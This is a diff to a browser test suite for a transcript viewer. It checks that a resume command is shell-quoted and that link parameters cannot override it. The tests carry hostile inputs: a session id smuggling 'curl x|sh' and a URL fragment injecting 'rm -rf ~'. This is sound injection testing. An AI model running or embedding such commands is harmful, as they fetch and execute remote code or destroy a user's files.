@@ -41,6 +41,10 @@ HOSTILE = [
 ]
 
 
+#: A session id that would run a command if pasted unquoted into a shell.
+HOSTILE_SESSION = "hostile;curl x|sh"
+
+
 def hostile_session(folder: Path) -> None:
     lines = []
     for i, text in enumerate(HOSTILE):
@@ -48,7 +52,7 @@ def hostile_session(folder: Path) -> None:
             {
                 "type": "user",
                 "uuid": f"00000000-0000-4000-8000-00000000000{i}",
-                "sessionId": "hostile-session",
+                "sessionId": HOSTILE_SESSION,
                 "cwd": "/home/dev/hostile",
                 "timestamp": f"2026-10-0{i + 1}T10:00:00.000Z",
                 "message": {"role": "user", "content": text},
@@ -168,7 +172,7 @@ def test_search_open_the_hit_and_copy_the_resume_command(
     marks = browser.find_elements(By.CSS_SELECTOR, "#messages mark.find")
     assert marks and all(m.text.lower() == "access exclusive" for m in marks)
 
-    browser.find_element(By.CSS_SELECTOR, "#session-meta button.copy").click()
+    wait(browser, "#session-meta button.copy").click()
     copied = browser.execute_async_script(
         "navigator.clipboard.readText().then(arguments[0], e => arguments[0]('failed: ' + e))"
     )
@@ -215,6 +219,19 @@ def test_hostile_transcript_text_renders_as_text(
     assert not browser.find_elements(
         By.CSS_SELECTOR, "main img, main script, main a[href^=javascript]"
     )
+    # The session id is one quoted word of the command, and the command shown is
+    # the importer's, not one a link carries.
+    quoted = "cd /home/dev/hostile && claude --resume 'hostile;curl x|sh'"
+    assert quoted in browser.find_element(By.ID, "results").text
+    assert wait(browser, "#session-meta code.resume").text == quoted
+    path = browser.current_url.split("path=")[1].split("&")[0]
+    browser.get(
+        browser.current_url.split("#")[0]
+        + f"#/session?path={path}&session=hostile%3Bcurl%20x%7Csh&resume=rm%20-rf%20~"
+    )
+    wait(browser, "#messages li.msg")
+    assert wait(browser, "#session-meta code.resume").text == quoted
+    assert "rm -rf" not in browser.find_element(By.TAG_NAME, "main").text
 
 
 def test_serve_answers_the_page_from_a_state_folder_without_importing(tmp_path: Path) -> None:
